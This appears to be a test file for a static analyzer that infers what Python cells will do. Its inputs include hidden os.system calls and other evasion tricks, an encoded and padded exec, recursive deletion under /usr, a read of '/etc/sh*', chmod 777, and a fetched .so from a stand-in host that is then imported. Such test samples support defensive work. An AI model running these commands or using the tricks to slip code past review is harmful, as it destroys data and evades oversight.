"""What may not have run leaves what was there before: branches, loops, early ends, cells that fail; and the directory
and the listings that a text works with."""

from __future__ import annotations

import base64
import zlib

import pytest

from interlock.analysis.analyze import analyze, analyze_and_learn
from interlock.model import action as a
from interlock.model import facts as f
from interlock.model.limits import Limits
from interlock.model.session import Memory

LIMITS = Limits(soft_time_s=10.0)


def facts(*cells: str) -> f.Facts:
    """Of the last cell, after those before it."""
    memory = Memory()
    for cell in cells:
        found, learned = analyze_and_learn(a.RunCode(source=cell), memory, LIMITS)
        if learned.definitions is not None:
            memory = Memory(definitions={learned.context: learned.definitions})
    return found


def runs_touch(found: f.Facts) -> bool:
    return any(command.basename == "touch" and f.Literal(text="pwned") in command.argv for command in found.commands)


MAYBE = {
    "a loop without rounds": "f = os.system\nfor i in range(len(sys.argv) - 99): f = print\nf('touch pwned')",
    "a while without rounds": "f = os.system\nwhile len(sys.argv) > 99: f = print\nf('touch pwned')",
    "a loop left early": "f = os.system\nwhile True:\n    break\n    f = print\nf('touch pwned')",
    "a known loop left early": "f = os.system\nfor i in [1, 2]:\n    if i: break\n    f = print\nf('touch pwned')",
    "a round cut short": "f = os.system\nfor i in [1, 2]:\n    if i: continue\n    f = print\nf('touch pwned')",
    "a case that does not match": "f = os.system\nmatch len(sys.argv):\n    case 99: f = print\nf('touch pwned')",
    "an exception between": "try:\n    f = os.system\n    1/0\n    f = print\nexcept Exception: pass\nf('touch pwned')",
    "an exception kept quiet": (
        "import contextlib\nwith contextlib.suppress(Exception):\n    f = os.system\n    1/0\n    f = print\n"
        "f('touch pwned')"
    ),
    "a function left early": (
        "f = os.system\ndef g():\n    global f\n    if len(sys.argv) < 99: return\n    f = print\ng()\nf('touch pwned')"
    ),
    "nonlocal": (
        "def o():\n    f = print\n    def i():\n        nonlocal f\n        f = os.system\n    i()\n"
        "    f('touch pwned')\no()"
    ),
    "a list that may be shorter": "l = [print, os.system]\nif len(sys.argv) > 99: l.pop()\nl[-1]('touch pwned')",
    "a list that may be empty": "l = [os.system]\nif len(sys.argv) > 99: l.clear()\nfor f in l: f('touch pwned')",
    "an item that may be set": "l = [os.system]\nif len(sys.argv) > 99: l[0] = print\nl[0]('touch pwned')",
    "a class attribute": "class A: f = os.system\nif len(sys.argv) > 99: A.f = print\nA.f('touch pwned')",
    "an attribute of a module": "math.f = os.system\nif len(sys.argv) > 99: math.f = print\nmath.f('touch pwned')",
}


@pytest.mark.parametrize("text", MAYBE.values(), ids=MAYBE)
def test_what_may_not_have_run_does_not_replace_what_was_there(text: str) -> None:
    assert runs_touch(facts("import os, sys, math\n" + text))


def test_a_cell_that_fails_has_not_bound_what_stands_behind() -> None:
    assert runs_touch(facts("import os\nf = os.system", "1/0\nf = print", "f('touch pwned')"))
    assert runs_touch(facts("import os\ndef f(x): os.system(x)", "1/0\ndef f(x): pass", "f('touch pwned')"))


def test_a_first_statement_that_cannot_fail_does_bind() -> None:
    assert not runs_touch(facts("import os\nf = os.system", "f = print", "f('touch pwned')"))


def test_a_cell_that_runs_again_adds_nothing() -> None:
    again = ["import os\ndef f(x): os.system(x)"] * 20
    found = facts(*again, "f('touch pwned')")

    assert len(found.commands) == 1


def test_what_is_decompressed_is_whole_or_unknown() -> None:
    text = base64.b64encode(zlib.compress(b"#" * 70_000 + b"\nimport os\nos.system('touch pwned')")).decode()
    found = facts(f"import zlib, base64\nexec(zlib.decompress(base64.b64decode('{text}')))")

    assert [opaque.code for opaque in found.reading.opaque] == ["dynamic_code"]


def test_a_started_program_works_in_the_directory_it_is_given() -> None:
    for text in (
        "subprocess.run('rm -rf zz', shell=True, cwd='/usr')",
        "subprocess.run(['rm', '-rf', 'zz'], cwd='/usr')",
    ):
        found = facts(f"import subprocess\n{text}\nsubprocess.run(['rm', 'a'])")

        assert [effect.resolved for effect in found.files if effect.op == "delete"] == ["/usr/zz", "/home/user/a"]


LISTED = {
    "walk": "for r, d, n in os.walk('/usr'):\n    for x in n: os.remove(os.path.join(r, x))",
    "listdir": "for x in os.listdir('/usr'): os.remove('/usr/' + x)",
    "listdir of here": "os.chdir('/usr')\nfor x in os.listdir(): os.remove(x)",
    "scandir": "for x in os.scandir('/usr'): os.remove(x.path)",
    "glob": "import glob\nfor x in sorted(glob.glob('/usr/*')): os.remove(x)",
    "rglob": "import pathlib\nfor x in pathlib.Path('/usr').rglob('*'): x.unlink()",
}


@pytest.mark.parametrize("text", LISTED.values(), ids=LISTED)
def test_what_a_listing_gave_is_below_the_directory(text: str) -> None:
    (effect,) = [effect for effect in facts("import os\n" + text).files if effect.op == "delete"]

    assert "/usr" in effect.ancestors


def test_a_pattern_stays_a_pattern() -> None:
    found = facts("import glob\nopen(glob.glob('/etc/sh*')[0]).read()")

    assert f.Glob(text="/etc/sh*") in [effect.path for effect in found.files if effect.op == "read"]


def test_modes_are_added_up_from_their_names() -> None:
    found = facts(
        "import os, stat\nos.chmod('x', stat.S_IRWXU | stat.S_IRWXG | stat.S_IRWXO)\nos.makedirs('y', mode=0o777)"
    )

    assert [effect.mode for effect in found.files] == ["777", "777"]


def test_a_module_under_a_private_name_is_the_module() -> None:
    assert runs_touch(facts("import random\nrandom._os.system('touch pwned')"))


def test_a_library_that_was_fetched_and_is_imported_is_opaque() -> None:
    found = analyze(
        a.RunCode(source="import urllib.request\nurllib.request.urlretrieve('http://e.x/x.so', 'x.so')\nimport x"),
        Memory(),
        LIMITS,
    )

    assert found.reading.opaque
    assert found.network[0].flows_to == "interpreter"
